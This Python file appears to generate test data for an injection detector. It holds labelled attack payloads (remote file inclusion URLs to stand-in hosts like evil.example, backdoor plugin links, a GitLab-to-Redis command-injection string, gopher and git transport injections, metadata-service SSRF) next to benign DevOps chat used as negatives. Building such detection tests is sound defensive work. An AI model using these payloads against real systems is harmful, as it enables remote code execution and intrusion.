# url-with-trailing-question-mark: `?` turns the suffix the tool appends into a query string (target: PHP include,
# Velocity resource loader, the tool's fetcher)
TRAILING_QM: list[Entry] = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/x.php?",
    "http://203.0.113.7/r57.txt??",
    "https://raw.githubusercontent.com/attacker/s/main/s.php?",
    "http://evil.example/cmd.vm?",
    "https://evil.example/templates/rce.vm?x=",
    "//evil.example/x.txt?",
    "http://evil.example/zabbix/include.txt?",
    "http://evil.example/nagiosxi/c.txt?",
    "http://evil.example/mediawiki/extension.txt?",
    "https://pastebin.com/raw/3xAmPl3q?",
    "https://gist.githubusercontent.com/attacker/1a2b3c/raw/s.txt?",
    "http://evil.example/shell.txt?.php",
    "http://evil.example/s.txt?lang=",
    "http://evil.example/s.txt?&",
    "http://evil.example/s.txt?%00",
    "ftp://evil.example/pub/s.txt?",
    "http://evil.example/redmine_plugin/init.rb?",
    "http://evil.example:8080/s.jsp?",
    "https://evil.example/grafana/plugin.js?",
    "http://evil.example/skin.txt?skin=",
    "http://evil.example/theme.txt?",
    "http://evil.example/lang/en.txt?",
    "http://evil.example/module.inc?",
    "https://evil.example/config.txt?v=1&",
    "http://evil.example/x.txt?/",
    "http://evil.example/?",
    "http://user:pass@evil.example/s.txt?",
    "http://evil.example/s.txt%3F",
    "https://evil.example/a.txt?b=",
    "http://evil.example/s.gif?",
    "http://evil.example/jira/gadget.xml?",
]

# include-parameter-with-url: the tool's own include parameter with a URL, written as its `name=value` pair
INCLUDE_PARAMS: list[Entry] = [
    # Confluence Widget Connector: the whole macro preview document (target: Confluence)
    (('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
      '"width":"1000","height":"1000","_template":"https://evil.example/cmd.vm"}}}'), *JB),
    (('{"contentId":"1","macro":{"name":"widget","params":{"url":"https://www.dailymotion.com/video/x1",'
      '"_template":"http://203.0.113.7/exp.vm","command":"id"}}}'), *JB),
    ("_template=https://evil.example/cmd.vm", *KV),
    ("_template=ftp://203.0.113.7/exp.vm", *KV),
    # PHP front ends (Nagios XI components, Zabbix modules, MediaWiki skins) (target: PHP include)
    ("page=http://evil.example/shell.txt", *KV),
    ("file=https://evil.example/s.txt", *KV),
    ("template=http://evil.example/t.txt", *KV),
    ("include=http://203.0.113.7/s.txt", *KV),
    ("path=http://evil.example/s.txt?", *KV),
    ("inc=https://evil.example/x.inc", *KV),
    ("module=http://evil.example/m.txt", *KV),
    ("skin=http://evil.example/skin.txt", *KV),
    ("lang=http://evil.example/en.txt", *KV),
    ("theme=http://evil.example/theme.txt", *KV),
    ("page=//evil.example/x.txt", *KV),
    ("file=ftp://evil.example/pub/s.php", *KV),
    ("dir=http://evil.example/", *KV),
    ("conf=http://evil.example/config.txt", *KV),
    ("layout=http://evil.example/l.txt", *KV),
    # Jira and Confluence fetchers (gadget spec, OpenSocial makeRequest, iframe macro) (target: the product)
    ("url=https://evil.example/gadget.xml", *KV),
    ("spec=http://evil.example/gadget.xml", *KV),
    ("src=http://203.0.113.7/x.html", *KV),
    # Grafana image renderer and Kibana import (target: the renderer fetching the page)
    ("url=http://169.254.169.254/latest/meta-data/", *KV),
    ("template_url=https://evil.example/dashboard.json", *KV),
    # Gitea / Gogs / GitLab repository migration (target: the hosting server's fetcher)
    ("clone_addr=http://127.0.0.1:3000/admin/x.git", *KV),
    ("import_url=http://203.0.113.7/r.git", *KV),
    ("repo_url=https://evil.example/charts", *KV),
    # Jenkins pipeline libraries and job DSL from a remote URL (target: Jenkins runs the script)
    ("scriptPath=http://evil.example/Jenkinsfile", *KV),
    ("remote=https://evil.example/lib.git", *KV),
    ("plugin_url=https://evil.example/backdoor.hpi", *KV),
    ("webhook_url=http://10.0.0.1:8080/", *KV),
    ("configFile=http://evil.example/ansible.cfg", *KV),
]

# off-domain-reference: a URL to the attacker's own domain where the tool expects its own (target: the fetcher)
OFF_DOMAIN: list[Entry] = [
    "https://evil.example/plugin.hpi",
    "http://attacker.example/rce.vm",
    "https://cdn.evil.example/grafana-clock-panel-2.1.5.zip",
    "https://evil.example/charts/edge-1.2.3.tgz",
    "https://evil.example/platform/edge.git",
    "https://evil.example/update-center.json",
    "https://evil.example/redmine_backdoor.zip",
    "https://evil.example/verdaccio-auth-backdoor-1.0.0.tgz",
    "https://evil.example/ansible/roles/common.tar.gz",
    "https://evil.example/kibana-plugin.zip",
    "https://evil.example/sonar-backdoor-plugin.jar",
    "https://evil.example/mediawiki/Extension.zip",
    "//evil.example/x.js",
    "https://evil.example@gitlab.example.com/",
    "https://gitlab.example.com.evil.example/x.git",
    "https://evil.example/%2e%2e/exp.vm",
    "http://xn--80ak6aa92e.com/shell.txt",
    "https://evil.example/jenkins/seed.groovy",
    "https://evil.example/.gitlab-ci.yml",
    "https://evil.example/drone-plugin:latest",
    "https://evil.example/teamcity/plugin.zip",
    "https://evil.example/bamboo/agent.jar",
    "https://evil.example/gadgets/jira-gadget.xml",
    "https://evil.example/confluence/theme.vm",
    "https://evil.example/nexus/script.groovy",
    "https://evil.example/artifactory/user.plugin.groovy",
    "https://evil.example/harbor/webhook",
    "https://evil.example/rundeck/plugin.zip",
    "https://evil.example/zabbix/module.so",
    "https://evil.example/nagios/check_backdoor",
    "https://evil.example/argo/kustomization.yaml",
    "https://evil.example/prometheus/rules.yml",
]

# protocols: ftp, smb, UNC, data:, expect: and the other schemes fetchers and git accept (target: the fetcher)
PROTOCOLS: list[Entry] = [
    "ftp://anonymous:x@evil.example/shell.php",
    "ftps://evil.example/pub/exp.vm",
    "smb://evil.example/share/x.php",
    r"\\evil.example\share\x.php",
    r"\\203.0.113.7\c$\x.ps1",
    "//evil.example/share/plugin.hpi",
    "file://evil.example/share/x.txt",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data://text/plain,<?php system('id'); ?>",
    "data:text/html,<script>alert(document.domain)</script>",
    "expect://id",
    "expect://ls -la /var/www",
    # GitLab import URL over an IPv6 git:// URL with CRLF into Redis (target: GitLab's Redis via git)
    ("git://[0:0:0:0:0:ffff:127.0.0.1]:6379/test/.git\n multi\n sadd resque:gitlab:queues system_hook_push\n"
     " lpush resque:gitlab:queue:system_hook_push \"{\\\"class\\\":\\\"GitlabShellWorker\\\",\\\"args\\\":"
     "[\\\"class_eval\\\",\\\"open('|id').read\\\"],\\\"queue\\\":\\\"system_hook_push\\\"}\"\n exec\n"),
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "ldap://evil.example:389/o=x",
    "jar:http://evil.example/x.jar!/",
    "netdoc:///etc/passwd",
    "ssh2.exec://git:pass@127.0.0.1:22/id",
    "sftp://evil.example/pub/s.php",
    "tftp://evil.example/s.txt",
    "git://evil.example/backdoor.git",
    # git transports that run commands (Gitea/Gogs/GitLab mirror address) (target: git on the server)
    "ext::sh -c touch% /tmp/pwned",
    "svn+ssh://-oProxyCommand=touch%20/tmp/pwned/x",
    "ssh://-oProxyCommand=id/x.git",
    "fd::3",
    "file:///var/opt/gitlab/git-data/repositories/root/secret.git",
    "file:////evil.example/share/x.php",
    r"\\evil.example@SSL\DavWWWRoot\x.php",
    r"\\?\UNC\evil.example\share\x.php",
    "jar:file:///var/lib/jenkins/plugins/x.hpi!/WEB-INF/lib/x.jar",
    "ftp://evil.example:2121/pub/cmd.vm",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", CMD_INJECTION),
    ("rce", "unix-shell-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", PATH_COMMANDS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names", RESTRICTED_FILES),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_TARGETS),
    ("lfi", "restricted-file-extensions", EXTENSIONS),
    ("rfi", "url-with-ip-address", IP_URLS),
    ("rfi", "url-with-trailing-question-mark", TRAILING_QM),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAMS),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# include parameters written as `name=value`, sent unquoted
RAW_KV_SUBS = {"include-parameter-with-url"}

# the parameter names the tools themselves give these inputs
NAMES: dict[str, Sequence[str]] = {
    "rce": ["branch", "ref", "host", "target", "command", "version", "tag", "node", "args"],
    "lfi": ["file", "path", "artifact", "log", "resource", "template", "page", "filename"],
    "rfi": ["url", "webhook_url", "repo_url", "clone_addr", "template", "include", "source", "plugin_url"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("form", "rs-param-name", "rs-raw-body")
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\?"
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"
    header_first: Cycles = (("header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version"),
                    ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie"))

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":   # the CGI's environment: headers and cookies
            return self.header_first
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by developers, SREs and release managers (Slack chat and bios about
# pipelines, builds, dashboards, alerts, tickets and reviews, searches for colleagues, links to builds and merge
# requests, admin-panel notes, profiles, artifact and report file names, ordinary headers)
CHAT = [
    # builds and pipelines
    "build #4821 on main is red again, `npm ci` timed out fetching from verdaccio",
    "can someone with admin on Jenkins bump the agent pool? the queue is 14 deep",
    "MR !2381 is ready for review: moves the deploy step to `./scripts/deploy.sh --env staging`",
    "PSA: please don't `curl | bash` the helm installer on the runners, the image already has helm 3.14",
    "use `set -euo pipefail` at the top of every CI script please, the last outage was a silent failure",
    "I added `|| true` after the lint step so the pipeline doesn't die on warnings; revert after the cleanup",
    "the pipeline reads the version from a file: `export APP_VERSION=$(cat VERSION)`",
    "anyone else seeing `fatal: could not read Username for 'https://gitlab.example.com'` on the mirror job?",
    "failing with `Permission denied (publickey)` on git@gitlab.example.com:platform/edge.git, did the key rotate?",
    "python -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt, then make test",
    "the Dockerfile does `RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -` and I hate it",
    "the bat step in the Jenkinsfile is `bat 'gradlew.bat clean build'`, works on the new Windows agents",
    "powershell step on the windows agent: `Get-ChildItem -Recurse *.trx | Remove-Item` before the test run",
    "TeamCity build config uses %env.JAVA_HOME%, on the Windows agents it's C:\\Program Files\\Eclipse Adoptium",
    "bamboo plan PROJ-API is blocked waiting for an agent with the docker capability",
    "drone: `when: branch: [main, release/*]` is what you want for the publish step",
    "Jenkins shared library is loaded with @Library('pipeline-lib@v2') _ at the top of the Jenkinsfile",
    "the include: template in .gitlab-ci.yml pulls from the ci-templates project, ref v3",
    "pipeline { agent { label 'linux' } stages { stage('Test') { steps { sh 'make test' } } } }",
    "test:\n  stage: test\n  script:\n    - npm ci\n    - npm test -- --ci",
    "deploy:\n  stage: deploy\n  script: ./scripts/deploy.sh $CI_ENVIRONMENT_NAME\n  when: manual",
    "the nightly job is `0 2 * * * /opt/backup/run.sh >> /var/log/backup.log 2>&1`, it's fine, the disk is full",
    "grep -r 'TODO' src/ | wc -l is at 412, happy Friday",
    "the perl script in tools/ is from 2011 and nobody dares touch it",
    "`wget -q -O- http://localhost:9090/-/healthy` is how the probe checks prometheus",
    "the runner can't resolve nexus.internal, check /etc/resolv.conf inside the container",
    "git log --oneline main..release/2.4 shows 37 commits, who wants to write the release notes?",
    "merged! thanks for the review, the cherry-pick to release/2.4 is in MR !2390",
    "Gerrit change 48213 needs a +2 from someone in core before the branch cut",
    "Bitbucket Server is read-only tonight 22:00-23:00 for the upgrade",
    "our Gitea mirror of the upstream repo is stuck, last sync 3 days ago",
    "Argo CD says the app is OutOfSync because of the helm values in ../common/values-prod.yaml",
    "Rundeck job 'restart workers' now asks for a node filter, the default is tags: worker",
    "AWX template 'patch-ubuntu' failed on 3 hosts, `apt-get` lock held by unattended-upgrades",
    "the webhook from GitLab to the bot 404s, the URL should end with /hooks/gitlab",
    "for the on-call: the runbook is linked from the alert, `kubectl -n edge rollout restart deploy/gateway`",
    "ssh keys for the deploy user rotate Monday, update ~/.ssh/config on your laptops",
    "don't paste the .env into Slack again please, rotating the keys now",
    "the release artifact is app-2.4.1-linux-amd64.tar.gz, checksums in SHA256SUMS",
    "test report is at build/reports/tests/test/index.html in the job artifacts",
    "Windows paths in the installer log: C:\\ProgramData\\Jenkins\\.jenkins is the default JENKINS_HOME",
    "the Helm chart repo is https://charts.example.com, add it with `helm repo add internal`",
    # dashboards, alerts, logs
    "the Grafana alert 'API p99 > 800ms' fired at 03:12, looks like the nightly reindex again",
    "PromQL for the error budget: sum(rate(http_requests_total{status=~\"5..\"}[5m])) / "
    "sum(rate(http_requests_total[5m]))",
    "LogQL: {app=\"gateway\"} |= \"timeout\" | json | status >= 500",
    "Kibana saved search for 5xx on the edge: status:>=500 AND service:edge",
    "logs are in /var/log/nginx/access.log on the edge boxes, rotated daily, 14 days kept",
    "Zabbix: trigger 'Free disk space is less than 10% on /var' on ci-agent-07",
    "Nagios is flapping on check_http for the wiki, I silenced it for 2h",
    "the panel query is SELECT date_trunc('hour', finished_at), count(*) FROM builds WHERE status = 'failed' "
    "GROUP BY 1",
    "prometheus scrape config: `- job_name: node\\n  static_configs:\\n  - targets: ['10.0.3.14:9100']`",
    "grafana snapshot from the incident: https://grafana.example.com/dashboard/snapshot/Qa8bT2",
    # tickets, reviews, errors
    "Jira PLAT-1423: the Sonar quality gate fails on coverage, not on bugs",
    "SonarQube flagged `Runtime.getRuntime().exec` in the legacy importer as a hotspot, marked as reviewed",
    "who owns the Nexus cleanup policy? the blob store is at 92%",
    "Artifactory is returning 502 for libs-release, ops is on it",
    "Harbor scan found CVE-2024-3094 in the base image, we're rebuilding from debian:bookworm-slim",
    "MediaWiki upgrade to 1.41: back up LocalSettings.php first, then run update.php",
    "Redmine issue #7731 is a duplicate of #7702",
    "Confluence page 'Release checklist' has the rollback steps, section 4",
    "the failing test is in src/test/java/com/acme/auth/TokenServiceTest.java, line 88",
    "java.io.FileNotFoundException: /var/jenkins_home/workspace/api/target/app.jar (No such file or directory)",
    "Traceback (most recent call last):\n  File \"/app/worker.py\", line 42, in run\nKeyError: 'build_id'",
    "Error: ENOENT: no such file or directory, open '/home/node/app/config/production.json'",
    "the review comment was about the relative import ../../utils/format, please use the alias @/utils",
    "pentest finding: the webhook receiver echoed the branch name into a shell, fixed by quoting \"$BRANCH\"",
    "security asked us to remove the `sh \"echo ${params.TAG}\"` pattern from the pipelines, string interpolation",
    "we turned off the Jenkins script console for non-admins, ask in #ci-help if you need it",
    # bios
    "SRE on the platform team. Jenkins, Argo CD, Prometheus, and too many YAML files.",
    "Release manager. I cut the branches, write the notes and chase the sign-offs.",
    "Build engineer: Gradle, Bazel, and the Windows agents nobody else wants to touch.",
    "DevOps @ payments. Ask me about GitLab runners, Terraform state and why the cache is cold.",
    "Observability nerd. PromQL, LogQL, Grafana dashboards. Bash when nothing else works.",
    "AppSec: SonarQube rules, dependency scanning, secret scanning in CI. I will find your .env",
    "Ex-sysadmin, now writing Ansible playbooks in AWX for a living. /etc is my second home.",
    "Maintainer of the Slack deploy bot (/deploy, /rollback, /status). PRs welcome.",
    "Wiki gardener: Confluence and the old MediaWiki. Redmine archaeologist.",
    "On-call this week for CI. Page me if the runners are down, not if your test is flaky.",
]

SEARCHES = [
    "jenkins", "gitlab", "sre", "release manager", "platform team", "devops", "on-call", "grafana", "argo cd",
    "build engineer", "ci", "pipeline", "nexus", "artifactory", "harbor", "sonarqube", "kibana", "zabbix",
    "nagios", "rundeck", "awx", "ansible", "windows agents", "powershell", "bash", "perl", "python", "shell",
    "deploy bot", "webhook", "ana", "o'neill", "team:infra", "repo:edge-gateway", "release/2.4", "PLAT-1423",
    "root cause", "cat", "helm", "curl",
]

URLS = [
    "https://jenkins.example.com/job/api/job/main/4821/console",
    "https://gitlab.example.com/platform/edge/-/merge_requests/2381",
    "https://gitlab.example.com/platform/edge/-/pipelines/99123",
    "https://grafana.example.com/d/edge-latency/edge-latency?orgId=1&from=now-6h&to=now&var-env=prod",
    "https://kibana.example.com/app/discover#/?_g=(time:(from:now-15m,to:now))",
    "https://sonar.example.com/dashboard?id=platform_edge&branch=main",
    "https://nexus.example.com/repository/maven-releases/com/acme/edge/2.4.1/edge-2.4.1.jar",
    "https://artifactory.example.com/artifactory/libs-release-local/com/acme/api/2.4.1/",
    "https://harbor.example.com/harbor/projects/3/repositories/edge%2Fgateway",
    "https://argocd.example.com/applications/edge-gateway?view=tree",
    "https://jira.example.com/browse/PLAT-1423",
    "https://confluence.example.com/display/PLAT/Release+checklist",
    "https://redmine.example.com/issues/7731",
    "https://wiki.example.com/index.php?title=Runbooks/Edge&action=edit",
    "https://gerrit.example.com/c/platform/edge/+/48213",
    "https://gitea.example.com/platform/tools/src/branch/main/scripts/deploy.sh",
    "https://bitbucket.example.com/projects/PLAT/repos/edge/pull-requests/512/overview",
    "https://rundeck.example.com/project/ops/job/show/1b2c3d4e",
    "https://zabbix.example.com/zabbix.php?action=problem.view&filter_hostids%5B%5D=10084",
    "https://prometheus.example.com/graph?g0.expr=up%7Bjob%3D%22edge%22%7D&g0.range_input=1h",
    "https://teamcity.example.com/buildConfiguration/Edge_Build/98765?buildTab=log",
    "https://drone.example.com/platform/edge/1204",
]

PROSE = [
    "release managers",
    "platform team on-call",
    "jenkins admins",
    "owners of the windows build agents",
    "people in #ci-help",
    "reviewers for edge-gateway",
    "build & release",
    "sre / infra",
    "team: platform, repo: edge",
    "contractors for the CI migration",
    "who has access to the log servers",
    "Gitea admins",
    "grafana editors",
    "rundeck operators (prod)",
    "awx job template owners",
    "nexus and artifactory admins",
    "sonar quality gate approvers",
    "wiki maintainers",
    "on-call rota week 24",
    "people who touched deploy.sh last month",
    "cat owners club",
    "helm chart maintainers",
    "shell scripting guild",
    "python and perl tooling folks",
    "bot maintainers - /deploy",
    "release 2.4 sign-off list",
    "incident 2024-06-12 responders",
    "agents with docker capability",
    "users with ssh keys older than 1 year",
    "Jira project leads (PLAT, OPS)",
]

PROFILES = [
    ("Sam Jenkins", "Station Rd 14, Reading"),
    ("Ana Pipeline", "Rua do Ouro 5, Porto"),
    ("Tom Bash", "Mill Lane 3, Leeds"),
    ("Carla Perl", "Via Roma 21, Torino"),
    ("Nikolai Shell", "Nevsky pr. 9, Saint Petersburg"),
    ("Grace Helm", "Harbour St 2, Cork"),
    ("Rune Deck", "Storgata 11, Oslo"),
    ("Priya Kibana", "MG Road 40, Pune"),
    ("Oliver Cat", "Catherine St 8, Cambridge"),
    ("Marta Nagios", "Plaza Mayor 1, Salamanca"),
    ("Jonas Gitea", "Hauptstr. 17, Freiburg"),
    ("Lea Nexus", "Rue de la Gare 6, Lyon"),
    ("David Curl", "Curl St 12, Melbourne"),
    ("Eva Sonar", "Vaclavske nam. 3, Prague"),
    ("Build & Release Team", "Floor 4, Dublin office"),
    ("Platform SRE (shared mailbox)", "Remote"),
    ("Hannah Drone", "Kings Rd 77, London"),
    ("Mateo Argo", "Calle Sol 3, Valencia"),
    ("Yuki Zabbix", "Shibuya 2-21-1, Tokyo"),
    ("Arjun Bamboo", "Indiranagar 100ft Rd, Bengaluru"),
]

UPLOAD_NAMES = [
    "build-4821-console.log", "junit-report.xml", "app-2.4.1-linux-amd64.tar.gz", "SHA256SUMS",
    "coverage-report.html", "sonar-report.json", "grafana-dashboard-edge.json", "values-prod.yaml",
    "release-notes-2.4.1.md", "incident-2024-06-12-postmortem.pdf", "runbook-edge.docx", "onboarding devops.pptx",
    "prometheus-rules.yml", "access-log-sample.txt", "heapdump-api-2024-06-12.hprof", "Jenkinsfile.groovy",
    "gitlab-ci-template.yml", "deploy.sh", "install-agent.ps1", "build.bat", "nagios-hosts.cfg",
    "zabbix-template-linux.xml", "team-photo (ci offsite).jpg", "on-call-rota-Q3.xlsx", "trivy-scan-results.sarif",
]

BENIGN_HEADERS = [
    ("User-Agent", "GitLab/16.11.2"),
    ("User-Agent", "Jenkins/2.452.2"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Prometheus/2.51.2"),
    ("User-Agent", "kube-probe/1.29"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Bitbucket-Webhooks/2.0"),
    ("User-Agent", "check_http/v2.4.6 (nagios-plugins 2.4.6)"),
    ("User-Agent", "Apache-Maven/3.9.6 (Java 17.0.10; Linux 6.5.0-41-generic)"),
    ("User-Agent", "npm/10.5.0 node/v20.12.2 linux x64 workspaces/false"),
    ("User-Agent", "Helm/3.14.4"),
    ("User-Agent", "python-requests/2.31.0"),
    ("Referer", "https://jenkins.example.com/job/api/job/main/4821/console"),
    ("Referer", "https://grafana.example.com/d/edge-latency/edge-latency?orgId=1&var-env=prod"),
    ("Referer", "https://gitlab.example.com/platform/edge/-/merge_requests/2381/diffs"),
    ("Referer", "https://jira.example.com/browse/PLAT-1423?focusedCommentId=88123"),
    ("X-Gitlab-Event", "Push Hook"),
    ("X-Request-Id", "7d1e4b2a-90c3-4f5e-8a6b-2c3d4e5f6a7b"),
    ("Accept-Language", "en-US,en;q=0.9"),
    ("Cookie", "session=abc123; sidebar=collapsed; tz=Europe%2FDublin"),
    ("X-Forwarded-For", "10.20.30.40"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
